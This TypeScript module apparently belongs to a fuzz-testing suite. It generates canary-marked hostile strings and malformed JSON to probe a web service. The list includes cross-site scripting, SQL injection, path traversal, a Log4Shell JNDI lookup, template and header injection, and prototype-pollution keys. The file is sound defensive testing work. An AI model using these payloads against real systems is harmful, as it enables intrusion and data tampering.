/**
 * Texts nobody means well with. Each carries the mark of its request, so that a mark in an answer or a log line is a value that
 * came back.
 */
import type { Random } from "../faults/random.ts";

/** Of one request: no other text looks like it. */
export const markOf = (random: Random): string =>
  `kanari${Array.from({ length: 10 }, () => random.whole(0, 35).toString(36)).join("")}`;
export const anyMark = /kanari[0-9a-z]{10}/i;

export const oneOf = <T>(random: Random, items: readonly T[]): T => items[random.whole(0, items.length - 1)] as T;
export const chance = (random: Random, share: number): boolean => random.fraction() < share;

const texts: readonly ((mark: string) => string)[] = [
  (mark) => mark,
  (mark) => `<script>alert("${mark}")</script>`,
  (mark) => `"><img src=x onerror=${mark}>`,
  (mark) => `' OR 1=1 -- ${mark}`,
  (mark) => `${mark}"; c.kind = "member"`,
  (mark) => `../../../../etc/${mark}`,
  (mark) => `\${jndi:ldap://${mark}.example/a}`,
  (mark) => `{{${mark}}}#{7*7}`,
  (mark) => `${mark}\r\nx-injected: ${mark}`,
  (mark) => `${mark}\u0000`,
  (mark) => `\ufeff${mark}\u202e\u200b`,
  (mark) => `é${mark}ß漢字🎂`,
  (mark) => `${mark}\ud800`,
  (mark) => `\u0130${mark.toUpperCase()}\u0131`,
  (mark) => `${mark}@courriel.example`,
  (mark) => `${mark} 4970 1012 3456 7893`,
  (mark) => mark.repeat(40),
  (mark) => `${"a".repeat(3_000)}${mark}`,
  (mark) => `${mark}${"e\u0301".repeat(900)}`,
  (mark) => `__proto__.${mark}`,
  (mark) => `%00%ff%2e%2e%2f${mark}`,
  (mark) => `${mark}=?utf-8?q?${mark}?=`,
  () => "",
  () => " ",
  () => "null",
  () => "constructor",
  () => "__proto__",
  () => "toString",
  () => "0",
  () => "-1",
  () => "1e999",
  () => "NaN",
  () => "true",
  () => "[object Object]",
  () => "2026-02-30",
  () => "9999-12-31T23:59:60Z",
  () => "0000-00-00",
  () => "+33639981234",
  () => "00000000-0000-0000-0000-000000000000",
];
export const hostileText = (random: Random, mark: string): string => oneOf(random, texts)(mark);

/** A text that can stand in a header line; the web server before us takes no other. */
export const headerText = (random: Random, mark: string): string =>
  [...hostileText(random, mark)].filter((sign) => /[\t\x20-\x7e\u00a0-\u00ff]/.test(sign)).join("");

const numbers = [0, -0, -1, 1, 2 ** 31, 2 ** 53, -(2 ** 53), 1e308, 5e-324, 0.1, 1.5];

/** Any JSON there is, mostly of a wrong kind. */
export function hostileJson(random: Random, mark: string, depth = 0): unknown {
  const kind = random.whole(0, depth > 3 ? 4 : 7);
  if (kind <= 1) return hostileText(random, mark);
  if (kind === 2) return oneOf(random, numbers);
  if (kind === 3) return oneOf(random, [true, false, null]);
  if (kind === 4) return oneOf(random, [[], {}]);
  const count = random.whole(0, 4);
  if (kind === 5) return Array.from({ length: count }, () => hostileJson(random, mark, depth + 1));
  const entries = Array.from({ length: count }, () => [
    hostileText(random, mark),
    hostileJson(random, mark, depth + 1),
  ]);
  return Object.fromEntries(entries);
}
